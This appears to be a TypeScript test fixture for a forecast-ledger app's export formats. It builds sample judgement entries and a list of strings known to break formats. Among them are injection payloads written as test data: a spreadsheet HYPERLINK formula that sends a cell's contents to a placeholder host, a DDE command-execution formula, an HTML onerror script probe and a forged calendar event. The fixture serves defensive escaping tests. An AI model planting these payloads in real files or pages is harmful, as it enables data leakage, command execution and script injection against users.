// Ledgers for the tests of their formats.
import { parseIsoDay } from '../../server/src/dates/calendar.ts';
import type { Entry, Ledger } from '../../server/src/ledger/entry.ts';
import { toLedger } from '../../server/src/ledger/ledger.ts';

const today = parseIsoDay('2026-11-28');
if (!today) throw new Error('no day');

export const ledgerOf = (...judgements: readonly Entry[]): Ledger => toLedger(judgements, today);

/** A judgement that is unlike this one only where it is said. */
export const entry = (other: Partial<Entry> = {}): Entry => ({
  id: '3f0c9a1b2c4d',
  path: 'desk/2025-05-02.md',
  line: 27,
  column: 3,
  text: 'It is highly unlikely that the ferry line will reopen.',
  event: 'the ferry line will reopen',
  authors: ['Ida Brandt'],
  published: '2025-05-02',
  standard: 'phia',
  term: 'highly unlikely',
  low: 10,
  high: 20,
  point: 15,
  confidence: null,
  section: 'Forecast',
  horizon: 'Short-term',
  opens: '2025-05-02',
  due: '2025-08-02',
  dueFrom: 'horizon',
  state: 'overdue',
  outcome: null,
  resolved: null,
  evidence: null,
  also: [],
  ...other,
});

export const resolved: Partial<Entry> = {
  state: 'resolved',
  outcome: 'did-not-happen',
  resolved: '2025-08-02',
  evidence: 'The line stayed closed ([notice](https://ferry.example/14)).',
};

export const undated: Partial<Entry> = { due: null, dueFrom: null, state: 'undated', horizon: 'Long-term' };

export const titles: ReadonlyMap<string, string> = new Map([['desk/2025-05-02.md', 'The Brask ferry']]);

/** Words that have broken a format somewhere. */
export const nasty: readonly string[] = [
  'He said “no”, then "yes", then \'perhaps\'.',
  'One, two; three\ttab',
  'First line\nsecond line\r\nthird line\rfourth',
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0\nand a second line",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '🛳️ a ferry 👩‍👩‍👧 and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'العبّارة لن تعود قبل الصيف',
  'left \u202Eright\u202C left',
  `${'a very long sentence without an end '.repeat(40)}…`,
  'é'.repeat(300),
  '| a | b |\n| - | - |',
  '<img src=x onerror=alert(1)> & `code` *stars* _lines_ ~~struck~~ $x$',
  '@everyone see #12, https://x.example and www.example.org',
  'BEGIN:VEVENT\r\nUID:forged\r\nEND:VEVENT',
  'C:\\temp\\new; a, b',
  'bell\u0007 and escape\u001b[31m',
  '',
];
